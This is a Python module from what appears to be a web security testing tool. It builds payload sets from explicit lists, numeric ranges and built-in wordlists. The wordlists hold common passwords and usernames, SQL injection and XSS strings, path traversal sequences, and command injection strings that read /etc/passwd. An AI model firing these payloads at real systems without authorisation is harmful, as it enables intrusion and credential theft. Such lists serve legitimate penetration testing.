"""
Payload sets for an attack: explicit lists, generated numeric ranges and
the built-in wordlists.

Blank items are kept in the stored set (the editor round-trips them)
and only dropped by :func:`active_payloads` when an attack starts.
"""

import logging
import math
import random

from models.attack import NumericRangeConfig, PayloadSet

log = logging.getLogger(__name__)

BUILTIN_PAYLOADS: dict[str, list[str]] = {
    "Common Passwords": [
        "password", "123456", "12345678", "qwerty", "abc123", "monkey", "1234567",
        "letmein", "trustno1", "dragon", "baseball", "iloveyou", "master", "sunshine",
        "password123", "admin", "root", "toor", "pass", "test", "guest", "info",
        "administrator", "welcome", "login", "passw0rd", "admin123", "root123",
    ],
    "SQL Injection": [
        "' OR '1'='1", "' OR '1'='1' --", "' OR '1'='1' /*", "admin' --", "admin' #",
        "' or 1=1--", "' or 1=1#", "' or 1=1/*", "1' UNION SELECT NULL--",
        "' UNION SELECT NULL,NULL--", "' AND 1=1--", "' AND 1=2--",
        "admin' OR '1'='1", "' OR 'x'='x", "') OR ('1'='1", "1' ORDER BY 1--",
        "1' ORDER BY 2--", "1' ORDER BY 3--", "' WAITFOR DELAY '0:0:5'--",
    ],
    "XSS Payloads": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>", "<input onfocus=alert(1) autofocus>",
        "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>",
        "<keygen onfocus=alert(1) autofocus>", "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>", '"><script>alert(1)</script>',
    ],
    "Directory Traversal": [
        "../", "../../", "../../../", "../../../../", "../../../../../",
        "..\\", "..\\..\\", "..\\..\\..\\", "..\\..\\..\\..\\",
        "..../", "....\\", "...//", "...\\\\",
        "%2e%2e/", "%2e%2e\\", "%252e%252e/", "%c0%ae%c0%ae/",
        "..%2f", "..%5c", "%2e%2e%2f", "%2e%2e%5c",
    ],
    "Command Injection": [
        "; ls", "| ls", "|| ls", "& ls", "&& ls", "`ls`", "$(ls)",
        "; cat /etc/passwd", "| cat /etc/passwd", "|| cat /etc/passwd",
        "; whoami", "| whoami", "|| whoami", "& whoami", "&& whoami",
        "; ping -c 5 127.0.0.1", "| ping -c 5 127.0.0.1", "|| ping -c 5 127.0.0.1",
    ],
    "Common Usernames": [
        "admin", "administrator", "root", "user", "test", "guest", "info",
        "adm", "mysql", "postgres", "oracle", "ftp", "pi", "puppet",
        "ansible", "ec2-user", "vagrant", "azureuser", "centos", "ubuntu",
    ],
    "HTTP Methods": [
        "GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS",
        "TRACE", "CONNECT", "PROPFIND", "PROPPATCH", "MKCOL", "COPY",
        "MOVE", "LOCK", "UNLOCK", "VERSION-CONTROL", "REPORT",
    ],
    "File Extensions": [
        ".php", ".asp", ".aspx", ".jsp", ".js", ".html", ".htm", ".xml",
        ".txt", ".pdf", ".doc", ".docx", ".xls", ".xlsx", ".zip", ".rar",
        ".tar", ".gz", ".bak", ".old", ".tmp", ".log", ".conf", ".config",
    ],
    "Status Codes": [
        "200", "201", "204", "301", "302", "304", "400", "401", "403",
        "404", "405", "500", "501", "502", "503", "504",
    ],
}


def generate_list(strings) -> PayloadSet:
    """Wrap *strings* verbatim, blank entries included."""
    return PayloadSet(kind="list", items=[str(s) for s in strings])


def parse_list_text(text: str) -> PayloadSet:
    """Editor text → payload set, one item per line."""
    return generate_list((text or "").split("\n"))


def format_number(value: int, base: str = "decimal", min_digits: int = 0, max_digits: int = 0) -> str:
    """Render *value*, left-pad with zeros to *min_digits*, keep the last *max_digits* chars.

    Truncation keeps the least significant digits: 1234 with max_digits=2 is "34".
    """
    num = format(value, "x") if base == "hex" else str(value)
    if min_digits > 0:
        num = num.rjust(min_digits, "0")
    if max_digits > 0 and len(num) > max_digits:
        num = num[-max_digits:]
    return num


def generate_numeric_range(config: NumericRangeConfig, rng: random.Random | None = None) -> PayloadSet:
    """Build a numeric payload set from *config*.

    ``sequential`` walks from→to inclusive by step.  ``random`` draws
    ``ceil((to - from) / step)`` independent values from [from, to];
    duplicates are kept.  A reversed range gives an empty set.
    """
    lo, hi, step = config.from_, config.to, config.step

    def fmt(n: int) -> str:
        return format_number(n, config.base, config.min_digits, config.max_digits)

    if config.mode == "random":
        count = math.ceil((hi - lo) / step)
        if count <= 0:
            items = []
        else:
            rng = rng or random.Random()
            items = [fmt(rng.randint(lo, hi)) for _ in range(count)]
    else:
        items = [fmt(i) for i in range(lo, hi + 1, step)]

    log.debug("generated %d %s numeric payloads (%d..%d step %d)", len(items), config.mode, lo, hi, step)
    return PayloadSet(kind="numeric_range", items=items, numeric=config)


def builtin_payload_set(name: str) -> PayloadSet:
    """Load a built-in wordlist by name. Raises KeyError for unknown names."""
    return generate_list(BUILTIN_PAYLOADS[name])


def builtin_catalog() -> list[dict]:
    return [{"name": name, "count": len(items)} for name, items in BUILTIN_PAYLOADS.items()]


def active_payloads(payload_set: PayloadSet) -> list[str]:
    """Items an attack will actually send: empty and whitespace-only entries dropped."""
    return [p for p in payload_set.items if p and p.strip()]
